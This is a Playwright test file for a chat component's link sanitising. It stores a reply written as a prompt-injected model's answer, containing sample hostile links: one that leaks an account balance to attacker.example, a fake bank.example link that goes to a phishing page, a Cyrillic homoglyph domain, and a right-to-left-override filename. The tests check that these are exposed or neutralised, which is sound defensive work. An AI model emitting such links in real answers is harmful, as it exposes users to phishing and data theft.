// Links in answers (model output is untrusted): each shows where it really goes, a title from
// the model is dropped, and the page can turn links off or allow only its own hosts.
import { expect, test, type Page } from '@playwright/test';
import { addChat, openPage } from './helpers.js';

/** Keeps `answer` as the assistant's reply in a stored conversation, as a prompt-injected model would have written it. */
async function storeAnswer(page: Page, key: string, answer: string): Promise<void> {
  await page.evaluate(
    ({ key, answer }) =>
      new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('llama-chat-history');
        open.onupgradeneeded = () => open.result.createObjectStore('conversations');
        open.onsuccess = () => {
          const tx = open.result.transaction('conversations', 'readwrite');
          const messages = [
            { role: 'user', content: 'Summarise my account.' },
            { role: 'assistant', content: answer },
          ];
          tx.objectStore('conversations').put({ version: 1, savedAt: Date.now(), messages }, key);
          tx.oncomplete = () => (open.result.close(), resolve());
          tx.onerror = () => reject(tx.error);
        };
      }),
    { key, answer },
  );
}

const HOSTILE = [
  '[Click to continue](https://attacker.example/c?d=account-4411-balance "https://bank.example/login")',
  '[https://bank.example/login](https://attacker.example/phish)',
  '[Your bank](https://bаnk.example/)', // Cyrillic а: a homoglyph of bank.example
  '[docs](https://docs.example.com/guide)',
  '[mail us](mailto:help@example.com)',
].join('\n\n');

/** Waits until the restored answer is shown as Markdown (its renderer loads when first needed). */
async function waitRendered(page: Page): Promise<void> {
  await page.waitForFunction(() => window.chat.shadowRoot!.querySelector('.message.assistant .markdown > *') !== null);
}

async function renderedLinks(page: Page): Promise<Array<{ text: string; href: string | null; title: string | null; shown: string }>> {
  await page.waitForFunction(() => window.chat.messages.length === 2);
  await waitRendered(page);
  return page.evaluate(() =>
    Array.from(window.chat.shadowRoot!.querySelectorAll('.message.assistant p')).map((p) => {
      const a = p.querySelector('a');
      return {
        text: a?.textContent ?? '',
        href: a?.getAttribute('href') ?? null,
        title: a?.getAttribute('title') ?? null,
        shown: p.textContent ?? '',
      };
    }),
  );
}

test('every link in an answer shows its real host (punycode for look-alikes), with no title from the model', async ({ page }) => {
  await openPage(page);
  await storeAnswer(page, 'links', HOSTILE);
  await addChat(page, { 'history-key': 'links' });
  const links = await renderedLinks(page);
  expect(links.map((l) => l.shown)).toEqual([
    'Click to continue (attacker.example)',
    'https://bank.example/login (attacker.example)',
    'Your bank (xn--bnk-6cd.example)',
    'docs (docs.example.com)',
    'mail us (email)',
  ]);
  expect(links.every((l) => l.title === null)).toBe(true);
  expect(links[0]!.href).toBe('https://attacker.example/c?d=account-4411-balance');
});

test('links="off" shows links as their text; links="example.com" keeps only that site’s links', async ({ page }) => {
  await openPage(page);
  await storeAnswer(page, 'links', HOSTILE);
  await addChat(page, { 'history-key': 'links', links: 'off' });
  let links = await renderedLinks(page);
  expect(links.map((l) => l.href)).toEqual([null, null, null, null, null]);
  expect(links[0]!.shown).toBe('Click to continue');

  await page.evaluate(() => window.chat.setAttribute('links', 'example.com'));
  await page.waitForFunction(() => window.chat.shadowRoot!.querySelectorAll('.message.assistant a').length === 1);
  links = await renderedLinks(page);
  expect(links.map((l) => l.href)).toEqual([null, null, null, 'https://docs.example.com/guide', null]);
});

test('table alignment and list numbering survive sanitizing; bidi controls are removed from code', async ({ page }) => {
  await openPage(page);
  await storeAnswer(page, 'layout', '| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n3. three\n4. four\n\n```\nevil\u202egpj.exe\n```');
  await addChat(page, { 'history-key': 'layout' });
  await page.waitForFunction(() => window.chat.messages.length === 2);
  await waitRendered(page);
  const layout = await page.evaluate(() => {
    const root = window.chat.shadowRoot!;
    return {
      align: Array.from(root.querySelectorAll('th')).map((th) => th.getAttribute('align')),
      start: root.querySelector('ol')?.getAttribute('start'),
      code: root.querySelector('pre')?.textContent,
    };
  });
  expect(layout).toEqual({ align: ['center', 'right'], start: '3', code: 'evilgpj.exe\n' });
});
